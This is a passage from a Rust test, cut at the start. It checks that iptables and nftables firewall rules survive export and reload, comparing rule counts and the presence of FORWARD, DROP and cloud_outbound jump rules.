        let exported = ipt_export
            .lines()
            .filter(|l| l.starts_with("-A PORTS-"))
            .count();
        let loaded = saved.lines().filter(|l| l.starts_with("-A PORTS-")).count();
        assert_eq!(loaded, exported, "{saved}");
        assert!(
            saved.contains("\n-A FORWARD -j PORTS-CLOUD-OUT\n"),
            "{saved}"
        );
        assert!(saved.contains("\n-A FORWARD -j DROP\n"), "{saved}");

        let exported = nft_export.matches(" accept comment ").count();
        assert_eq!(
            listed.matches(" accept comment ").count(),
            exported,
            "{listed}"
        );
        assert!(listed.contains("jump cloud_outbound"), "{listed}");
    }
}
